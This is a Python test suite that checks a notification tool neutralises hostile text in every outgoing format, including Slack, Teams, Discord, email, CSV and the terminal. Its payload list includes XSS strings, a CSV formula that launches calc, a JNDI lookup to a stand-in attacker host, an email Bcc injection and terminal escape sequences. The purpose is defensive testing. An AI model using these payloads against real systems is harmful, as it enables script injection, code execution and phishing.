#!/usr/bin/env python3
"""Text from outside stays text: names, summaries and evidence that try to be markup, mentions, links, formulas or terminal commands, in
every format that leaves the house and on the terminal. Each format is read back as its receiver would read it."""
import contextlib
import csv
import html
import io
import json
import re
import shutil
import sqlite3
import subprocess
import sys
from email import message_from_bytes, policy
from html.parser import HTMLParser
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "support"))
sys.path.insert(0, str(Path(__file__).resolve().parent))
import npm  # noqa: E402
from harness import HEAVY, run  # noqa: E402
from mattermost import mentions  # noqa: E402
from test_answers import Desk, token  # noqa: E402
from test_mail_format import NOW, TODAY  # noqa: E402

EVIL = [
    "<!channel>", "<!here|here>", "<@U012AB3CD>", "<#C012AB3CD>", "<!subteam^S012|@desk>", "<https://evil.example|https://bank.example>",
    "&lt;!here&gt;", "&amp;lt;!here&amp;gt;", "*b* _i_ ~s~ `c`", "```\nblock\n```", "javascript:alert(1)", "[bank](https://evil.example)",
    "![x](https://evil.example/x.png)", "[bank](javascript:alert(1))", "\\[bank](https://evil.example)", "[bank][1]\n\n[1]: https://evil.example",
    "<https://evil.example>", "@everyone", "@here @channel @all", "<@&123456789012345678>", "<@!123456789012345678>", "<:e:1234>", "<t:1618953630:R>",
    "<users/all>", "<users/123>", "<at>Ann Lee</at>", "{{DATE(2026-01-01T00:00:00Z)}}", "||spoiler||", "> quoted", "# heading", "- item", "1. item",
    "| a | b |\n|---|---|\n| c | d |", "<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
    "' onload='alert(1)", "</td></table><script>alert(1)</script>",
    "<style>*{display:none}</style>", "<svg/onload=alert(1)>", "&#60;script&#62;alert(1)&#60;/script&#62;", "<a href='https://evil.example'>bank</a>",
    "<a href=\"javascript:alert(1)\">x</a>", "<!-- gone", "]]>",
    "<base href=https://evil.example>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "expression(alert(1))", "url(https://evil.example)", "abc\u202egnp.exe", "\u202aabc\u202b\u202c\u202d",
    "\u2066abc\u2067\u2068\u2069", "pay\u200bpal\u200c\u200d\u2060\ufeff",
    "\u200e\u200f\u061c", "line\u2028line\u2029", "a\x00b", "a\x85b", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\")", "+1+1", "-1+1", "@SUM(1)",
    "\t=1+1", "\r=1+1", " =1+1", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\", "\x9b31m", "\x08\x08\x7f", "%s%n%x",
    "{{key}}", "${jndi:ldap://evil.example}", "\nBcc: evil@evil.example\n", "\r\n.\r\n", "a" * 3000,
]
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f\ufeff\u061c]")
OURS = re.compile(r"https://(crm\.acme\.example/company/|acme\.example/u|retaind\.acme\.example/a/acme/[\w-]{44}$)")
ORG = """
title: {title}
zone: Europe/Paris
currency: EUR
account_url: "https://crm.acme.example/company/{{{{key}}}}"
answers: {{ url: "https://retaind.acme.example", secret: "file:{folder}/answers" }}
language: {language}
sources:
  crm:
    connector: csv
    folder: "{folder}"
    files: {{ accounts: {{ match: none.csv, entity: account, key: id, map: [ {{ to: name, from: name }} ] }} }}
channels:
  mail: {{ kind: email, host: localhost, port: 2525, tls: starttls, from: "desk@acme.example", unsubscribe_url: "https://acme.example/u?o=1" }}
  hook: {{ kind: webhook, url: "https://hook.acme.example/x", secret: "env:HOOK" }}
  files: {{ kind: file, folder: /nowhere }}
  slack: {{ kind: slack_webhook, url: "env:SLACK" }}
  api: {{ kind: slack_api, token: "env:TOKEN" }}
  teams: {{ kind: teams, url: "env:TEAMS" }}
  chat: {{ kind: google_chat, url: "env:CHAT" }}
  discord: {{ kind: discord, url: "env:DISCORD" }}
  town: {{ kind: mattermost, url: "env:TOWN" }}
{more}owners:
  - {{ email: mia@acme.example, name: {owner}, role: manager, at: "08:00", capacity: 50,
      channels: [mail, hook, files, slack, api, teams, chat, discord, town{names}] }}
"""


def organisation(case, evil="Mia", more="", names="", language="en"):
    """All kinds of channels, and a finding for each evil text: in the name, the key, the summary and the evidence."""
    case.write("answers", "answers-key-0123456789abcdef\n").chmod(0o600)
    case.org(ORG.format(folder=case.tmp, title=json.dumps(f"Acme {evil}"), owner=json.dumps(f"Mia {evil}"), more=more, names=names,
                        language=language), daemon_yaml="web: { listen: '127.0.0.1:8642' }\n")
    case.retaind("migrate", "--now", NOW)
    with sqlite3.connect(case.database()) as db:
        db.execute("INSERT INTO source (id, name, kind, last_ok_at, last_ok_on) VALUES (1, 'crm', 'csv', 1772430000, 20514)")
        for i, text in enumerate(EVIL):
            account = db.execute("INSERT INTO account (source_id, source_key, name) VALUES (1, ?, ?)",
                                 (f"k{i}{text}", f"n{i} {text}" if i % 2 else text)).lastrowid
            db.execute("INSERT INTO finding (account_id, engine, cause, state, opened_on, updated_on, score, worst_score, confidence, value_minor, "
                       "currency, expected_minor, act_by_on, play, summary, evidence) VALUES (?, ?, 'usage_decline', 'open', ?, ?, 70, 70, 0.5, ?, 'EUR', "
                       "70000, ?, 'reactivate', ?, ?)", (account, ("defense", "expansion")[i % 2], TODAY, TODAY, 100000 + i, TODAY + 3, text,
                                                            json.dumps([text, f"x {text}"])))


def judge(kind, body):
    return JUDGES[kind.split(" in ")[0]](body)


def bodies(case):
    """kind -> the messages made of one digest."""
    case.retaind("digest", "--now", NOW)
    found = {}
    for kind, body, fallback in case.query("SELECT kind, body, fallback FROM outbox ORDER BY id"):
        found.setdefault(kind, []).append(bytes(body).decode())
        if fallback:
            found.setdefault(f"{kind} in plain form", []).append(bytes(fallback).decode())
    return found


def texts(thing):
    """All the texts of a JSON value, with the keys and the object that they stand in."""
    if isinstance(thing, dict):
        for key, value in thing.items():
            if isinstance(value, str):
                yield key, value, thing
            else:
                yield from texts(value)
    elif isinstance(thing, list):
        for value in thing:
            if isinstance(value, str):
                yield None, value, {}
            else:
                yield from texts(value)


class Tags(HTMLParser):
    def __init__(self, text, allowed, links=()):
        super().__init__(convert_charrefs=True)
        self.bad, self.allowed, self.links = [], allowed, links
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in self.allowed:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src", "action", "background") and not OURS.match(value or "")):
                self.bad.append(f"{name}={value}")

    def handle_comment(self, data):
        self.bad.append(f"<!--{data}")

    def unknown_decl(self, data):
        self.bad.append(f"<![{data}")


PAGE = {"html", "head", "meta", "title", "style", "body", "div", "table", "tbody", "tr", "td", "th", "p", "h1", "h2", "h3", "h4", "span", "b", "br", "ul",
        "li", "a"}


def slack(body):
    """Foreign text is allowed in elements that Slack shows as they are; the top-level text must have nothing that Slack would follow."""
    message, bad = json.loads(body), []
    if message["mrkdwn"] or message["unfurl_links"] or message["unfurl_media"] or message["link_names"]:
        bad.append("switches")
    bad += re.findall("<[^>]*>?", message["text"]) + re.findall("&(?!(?:amp|lt|gt);)", message["text"])
    for key, value, parent in texts(message.get("blocks", [])):
        kind = parent.get("type")
        if key == "type":
            if value not in ("header", "section", "context", "divider", "plain_text", "rich_text", "rich_text_section", "rich_text_list",
                             "rich_text_preformatted", "text", "link"):
                bad.append(value)
        elif key == "url":
            bad += [] if kind == "link" and OURS.match(value) else [value]
        elif key == "text" and kind not in ("plain_text", "text", "link"):
            bad.append(f"{kind}: {value}")
    return bad


def teams(body):
    """Text runs are shown as they are; a text block would be Markdown, and an action or a mention would act."""
    bad = []
    card = json.loads(body)["attachments"][0]["content"]
    if "entities" in card.get("msteams", {}):
        bad.append("entities")
    for key, value, parent in texts(card):
        if key == "text" and parent.get("type") not in ("TextRun",):
            bad.append(f"{parent.get('type')}: {value}")
        if key == "url" and not OURS.match(value):
            bad.append(value)
        if key == "type" and value not in ("AdaptiveCard", "Container", "RichTextBlock", "TextRun", "ActionSet", "Action.OpenUrl"):
            bad.append(value)
        if re.search(r"\{\{(DATE|TIME)\(", value):
            bad.append(value)
    return bad


def google_chat(body):
    message, bad = json.loads(body), []
    if "cardsV2" not in message:
        return re.findall("[*_~`<>]", message["text"])
    for key, value, parent in texts(message):
        if key == "text" and "onClick" not in parent:
            bad += Tags(value, {"b", "br", "i", "u", "font"}).bad
        elif key == "url":
            bad += [] if OURS.match(value) else [value]
        elif key in ("fallbackText", "title", "subtitle", "header") and re.search("<", value):
            bad.append(value)
    return bad


def mail(body):
    message = message_from_bytes(body.encode("ascii"), policy=policy.default)
    plain, page = (message.get_body((kind,)).get_content().replace("\r\n", "\n") for kind in ("plain", "html"))
    names = sorted(k.lower() for k in message.keys())
    bad = Tags(page, PAGE).bad + HIDDEN.findall(plain) + HIDDEN.findall(page)
    return bad + [n for n in names if n in ("bcc", "cc") or names.count(n) > 1]


def webhook(body):
    json.loads(body)
    return []


def discord(body):
    message = json.loads(body)
    return [] if message["allowed_mentions"] == {"parse": []} else ["allowed_mentions"]


def mattermost(body):
    """Its server looks for names where backslashes and entities are gone; hashtags, channels and emoji are found likewise."""
    text = json.loads(body)["text"]
    plain = html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", re.sub(r"\]\(https://crm[^)]*\)", "]", text)))
    found = re.findall(r"(?:^|\s)[~#]\w+|:[a-z0-9_+-]+:", plain) + re.findall(r"\$[^$\n]+\$", text)
    return mentions(text) + found


JUDGES = {"slack_webhook": slack, "slack_api": slack, "teams": teams, "google_chat": google_chat, "email": mail, "webhook": webhook, "discord": discord,
          "mattermost": mattermost, "file": lambda body: Tags(body, PAGE).bad}


def test_every_format(case):
    """read as its receiver reads it, no format has an active construct or a hidden character that came from outside; links lead to us only"""
    for language in ("en", "fr"):
        shutil.rmtree(case.tmp / "state", ignore_errors=True)
        organisation(case, language=language)
        look_at_all(bodies(case))


def look_at_all(found):
    kinds = {kind.split(" in ")[0] for kind in found}
    assert kinds == set(JUDGES) and len(found) == len(kinds) + 6, (kinds ^ set(JUDGES), set(found))  # six have a plainer form, too
    for kind, messages in found.items():
        for body in messages:
            assert not judge(kind, body), (kind, judge(kind, body)[:5])
            body = re.sub(r"(?<=[@~#:\\])\u2060", "", body) if kind.startswith("mattermost") else body  # ours, which parts a sign from its name
            hidden = [HIDDEN.findall(v) for _, v, _ in texts(json.loads(body))] if body.startswith("{") else [HIDDEN.findall(body.replace("\r\n", ""))]
            assert not any(hidden), (kind, [h for h in hidden if h][:3])
    print(f"         {len(EVIL)} texts in 5 places, {len(found)} formats, {sum(map(len, found.values()))} messages: 0 active constructs")


def test_the_readers_own_name(case):
    """the same in an owner's and an organisation's name"""
    for i, text in enumerate(t for t in EVIL if not HIDDEN.search(t)):
        if i % (1 if HEAVY else 11) == 0:
            shutil.rmtree(case.tmp / "state", ignore_errors=True)
            organisation(case, text)
            for kind, messages in bodies(case).items():
                for body in messages:
                    assert not judge(kind, body), (kind, text, judge(kind, body)[:5])


MARKDOWN = """
import MarkdownIt from "markdown-it";
import { readFileSync } from "node:fs";
const parser = new MarkdownIt({ html: true, linkify: process.argv[2] === "linkify" }), bad = [];
for (const text of JSON.parse(readFileSync(0, "utf8")))
  for (const token of parser.parse(text, {}))
    for (const t of [token, ...(token.children || [])]) {
      if (/^(image|html_inline|html_block|blockquote_open|table_open|fence|code_block|code_inline|heading_open|s_open)$/.test(t.type))
        bad.push(`${t.type}: ${t.content || ""}`);
      if (t.type === "link_open" &&
          !/^https:\\/\\/(crm\\.acme\\.example\\/company\\/|retaind\\.acme\\.example\\/a\\/acme\\/[\\w-]{44}$)/.test(t.attrGet("href")))
        bad.push(t.attrGet("href"));
    }
console.log(JSON.stringify(bad));
"""


def test_markdown(case):
    """what goes out as Markdown is read by markdown-it: no image, no HTML, no heading, quote, table or code that we did not write, no foreign link"""
    home = npm.need("markdown", "markdown-it@14")
    organisation(case)
    written, made = [], bodies(case)
    for body in made["discord"] + made["discord in plain form"]:
        message = json.loads(body)
        written += [v for k, v, _ in texts(message) if k in ("content", "description", "value", "title", "text")]
    assert sum(map(len, written)) > 5000
    for text in written:
        mentions = re.findall(r"(?<!\\)<(?:@|#|:|t:|/|a:|id:)", text)
        assert not mentions, (mentions, text[:300])
    (home / "judge.mjs").write_text(MARKDOWN)

    def judged(texts_, *options):
        return json.loads(subprocess.run(["node", "judge.mjs", *options], input=json.dumps(texts_), capture_output=True, text=True, cwd=home, timeout=60,
                                         check=True).stdout)
    assert not judged(written), judged(written)[:5]
    posts = [json.loads(body)["text"] for body in made["mattermost"] + made["mattermost in plain form"]]
    assert sum(map(len, posts)) > 5000 and not judged(posts, "linkify"), judged(posts, "linkify")[:5]
    assert judged(["www.evil.example", "see https://evil.example/"], "linkify")
    assert judged(["[bank](https://evil.example)", "![x](y)", "<b>x</b>"])


def test_terminal_and_csv(case):
    """on a terminal nothing that came from outside moves the cursor, colours, hides or turns the line; in CSV no cell is a formula: in every
    list that has names, reasons, notes or errors"""
    organisation(case)
    bodies(case)
    with contextlib.closing(sqlite3.connect(case.database())) as db, db:
        db.execute("UPDATE outbox SET state = 'dead', reason = ?", (EVIL[65],))
        for i, text in enumerate(EVIL, 1):
            db.execute("INSERT INTO finding_event (finding_id, day, at, kind, note, who, via, reason) VALUES (?, ?, 1772430000, 'dismissed', ?, ?, 'cli', ?)",
                       (i, TODAY, text, text, text))
            db.execute("INSERT INTO band_override (account_id, engine, band, who, reason, made_on, made_at, until_on) VALUES (?, 'defense', 1, ?, ?, ?, "
                       "1772430000, ?)", (i, text, text, TODAY, TODAY + 9))
    lists = [("accounts",), ("accounts", "--engine", "expansion"), ("deliveries", "list"), ("answers",), ("override",), ("signals",)]
    commands = [*lists, *((*command, "--format", "json") for command in lists), ("preview", "--owner", "mia@acme.example"), ("explain", "n1 " + EVIL[1]),
                ("preview", "--owner", "mia@acme.example", "--format", "json"), ("explain", "n1 " + EVIL[1], "--format", "json"),
                ("deliveries", "show", case.query("SELECT id FROM outbox LIMIT 1")[0][0]), ("override", "n65 " + EVIL[65], "--engine", "defense", "--clear")]
    for command in commands:
        out = case.retaind(*map(str, command), "--now", NOW, expect=None)
        said = out.stdout + out.stderr
        assert len(said) > 20 and not HIDDEN.findall(said), (command, HIDDEN.findall(said)[:5], said[:500])
    for command in lists:
        n = 0
        for row in csv.reader(io.StringIO(case.retaind(*command, "--format", "csv", "--now", NOW).stdout)):
            for cell in row:
                n += 1
                assert not re.match(r"[=+@\t\r]|-(?!\d+(\.\d+)?$)", cell), (command, cell)
                assert not HIDDEN.findall(cell), (command, cell)
        assert n > 100 or command == ("signals",), (command, n)


class Form(Tags):
    """An answer page: besides what other pages have, one form, which is sent to where it came from, and links beside it."""

    def handle_starttag(self, tag, attrs):
        super().handle_starttag(tag, [(n, v) for n, v in attrs if n != "href" or not re.fullmatch(r"[\w-]{44}", v)])


def test_answer_pages(case):
    """the same on the pages behind links, which ask and tell, in both languages"""
    desk = Desk(case)
    allowed = PAGE | {"main", "form", "input", "fieldset", "legend", "label", "select", "option", "textarea", "button"}
    looked = 0

    def look(answer):
        assert answer[0] in (200, 410), answer[:2]
        page = Form(answer[1], allowed)
        assert not page.bad and not HIDDEN.findall(answer[1]), (page.bad, HIDDEN.findall(answer[1]), answer[1][-1500:])
        assert len(re.findall("<form|<a ", answer[1])) == (answer[0] == 200)

    step = 1 if HEAVY else 3
    for i, text in enumerate(EVIL[::step]):
        with contextlib.closing(sqlite3.connect(case.database())) as db, db:
            db.execute("UPDATE account SET name = ? WHERE id = 2", (text,))
            db.execute("UPDATE finding SET summary = ?, evidence = ?, currency = ? WHERE id = 2",
                       (text, json.dumps([{"text": text, "signal": text, "words": {"x": text}}]), text))
        owner = ("ada", "zoe")[i % 2]
        link = "/a/acme/" + token(range(5)[i % 5], 2, owner=f"{owner}@acme.example", made_on=20000 + i)
        look(desk.call("GET", link))
        looked += 1
        if i % 5 < 2:
            told = desk.post(link, days="7", note=text)
            look(told)
            look(desk.call("GET", link))
            desk.post("/a/acme/" + re.search('<a href="([^"]*)"', told[1]).group(1))
    print(f"         {looked} pages")


run(globals())
